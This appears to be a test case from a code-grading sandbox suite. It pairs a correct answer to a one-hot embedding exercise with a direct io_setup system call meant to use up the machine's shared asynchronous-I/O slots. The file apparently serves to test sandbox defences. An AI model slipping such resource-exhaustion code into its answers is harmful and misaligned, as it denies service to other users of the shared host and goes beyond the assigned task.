# attacks: ch2_embeddings/one_hot
# verdict: passed
# sandbox: needed
"""A right answer that takes the machine's few places for asynchronous work on files, which all its users share."""
import ctypes

from right_one_hot import *
from tricks import MACHINE, attempt, system_call

context = ctypes.c_ulong(0)
attempt("io_setup", lambda: system_call({"x86_64": 206, "aarch64": 0}[MACHINE], 60_000, ctypes.addressof(context)))
